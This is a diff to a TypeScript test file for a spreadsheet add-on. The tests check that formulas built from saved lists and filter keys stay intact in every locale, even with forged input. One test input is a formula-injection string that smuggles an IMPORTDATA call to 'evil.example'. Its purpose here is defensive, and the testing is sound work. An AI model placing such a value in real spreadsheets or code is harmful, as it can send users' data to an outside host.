@@ -14,8 +14,11 @@ import {
 import { filterForm } from "../../src/formula-actions/filter-form";
 import { functionHelp } from "../../src/formula-actions/insert";
 import { filterControls } from "../../src/filters/filter-control";
+import { howToGetValues, wayOut } from "../../src/functions/filter-value";
 import { customFunctions } from "../../src/functions/catalogue";
 import { listFormula } from "../../src/lists/list-formula";
+import { listRequest } from "../../src/lists/list-request";
+import { draftOfList } from "../../sidebar/list/draft-from-filters";
 import { canonicalForm, hasDecimalComma } from "../../workbench/formulas/locale-form";
 import { parseFormula, type FormulaNode } from "../../workbench/formulas/parser";
 import { parseReference } from "../../workbench/formulas/references";
@@ -28,6 +31,9 @@ const LOCALES =
   "ar_EG az_AZ be_BY bg_BG bn_IN ca_ES cs_CZ cy_GB da_DK de_CH de_DE el_GR en_AU en_CA en_GB en_IE en_IN en_US es_AR es_BO es_CL es_CO es_EC es_ES es_MX es_PY es_UY es_VE fi_FI fil_PH fr_CA fr_FR gu_IN hi_IN hr_HR hu_HU hy_AM in_ID it_IT iw_IL ja_JP ka_GE kk_KZ kn_IN ko_KR lt_LT lv_LV ml_IN mn_MN mr_IN my_MM nb_NO nl_NL nn_NO pa_IN pl_PL pt_BR pt_PT ro_RO ru_RU sk_SK sl_SI sr_RS sv_SE ta_IN te_IN th_TH tr_TR uk_UA vi_VN zh_CN zh_HK zh_TW".split(
     " ",
   );
+
+/** A text that is a call, or a call into which something is put; not in a doc comment. */
+const SPELT = /^(?!\s*\/?\*).*?((?:["'`]=(?:[A-Z_]+|\$\{[^}]*\})\(|=[A-Z_]+\([^)]*\$\{).*)/gm;
 
 /** A formula as a spreadsheet reads it where it is typed. */
 function readAs(formula: string, decimalComma: boolean): FormulaNode {
@@ -166,21 +172,57 @@ describe("Every place that makes a formula", () => {
       expect(made(";").map((formula) => readAs(formula, decimalComma))).toEqual(commas);
   });
 
-  it("spells it here: no other file of the add-on begins a text with a call", () => {
-    const root = join(import.meta.dirname, "../../src");
-    const files = readdirSync(root, { recursive: true, encoding: "utf8" }).filter((name) =>
-      name.endsWith(".ts"),
+  it.each(SEPARATORS)("keeps the arguments of a saved list that somebody has forged: %s", (separator) => {
+    const [control] = filterControls({ filters: [anyFilter({ filter: "a.b" })], groups: [], fetchedAt: "" });
+    const forged = { value: anyText, sortBy: anyText, sheetName: anyText };
+    fc.assert(
+      fc.property(fc.record(forged), ({ value, ...others }) => {
+        const saved = { request: { filters: { "a.b": [value] }, limit: 5, ...others }, lastRun: null };
+        const { request } = listRequest(
+          [control!],
+          draftOfList(saved, [control!], () => undefined),
+        );
+        fc.pre(request !== null);
+
+        const { filters, limit, sortBy, sortOrder } = request!;
+        const built = listFormula(filters, limit, separator, request!);
+
+        const sorting = sortBy === undefined ? [] : [null, null, sortBy, sortOrder!];
+        const wanted = nodeOf(call("COMPANY_LIST", JSON.stringify(filters), limit, ...sorting));
+        for (const read of readings("formula" in built ? built.formula : "", separator))
+          expect(read).toEqual(wanted);
+      }),
+    );
+  });
+
+  it("keeps a filter's key in the sentences that say where its values are", () => {
+    const anyKey = fc.oneof(anyText, fc.constantFrom('x"),IMPORTDATA("//evil.example', "$&$1$`", 'a"b'));
+    fc.assert(
+      fc.property(anyKey, fc.constantFrom("list[string]", "an unknown shape"), (filter, value_shape) => {
+        const served = anyFilter({ filter, value_shape, how_to_get_values: "from /some/list" });
+        const [control] = filterControls({ filters: [served], groups: [], fetchedAt: "" });
+
+        const shown = [wayOut(control!).replace(/ [a-z ]+\.$/, ""), howToGetValues(control!).slice(5)];
+
+        for (const formula of shown)
+          expect(readAs(formula, false)).toEqual(nodeOf(call("COMPANY_FILTERS", filter)));
+      }),
+    );
+  });
+
+  it("spells it here: no other file begins a text with a call, or puts something into one", () => {
+    const root = join(import.meta.dirname, "../..");
+    const files = ["src", "sidebar"].flatMap((folder) =>
+      readdirSync(join(root, folder), { recursive: true, encoding: "utf8" })
+        .filter((name) => /\.tsx?$/.test(name))
+        .map((name) => `${folder}/${name}`),
     );
 
     const found = files.flatMap((name) =>
-      [...readFileSync(join(root, name), "utf8").matchAll(/^(?!\s*\*).*?(["'`]=[A-Z_]+\(.*)/gm)].map(
-        ([, text = ""]) => text,
-      ),
+      [...readFileSync(join(root, name), "utf8").matchAll(SPELT)].map(([, text = ""]) => `${name}: ${text}`),
     );
 
-    // Sentences that name a formula of one argument.
-    expect(found.filter((line) => !/^`=COMPANY_FILTERS\("\$\{filter\}"\) (tells|lists)/.test(line))).toEqual(
-      [],
-    );
+    // Arguments that somebody has typed, as they were typed.
+    expect(found).toEqual(["src/formula-actions/freeze.ts: `=${call.name}(${call.args.join(separator)})`;"]);
   });
 });
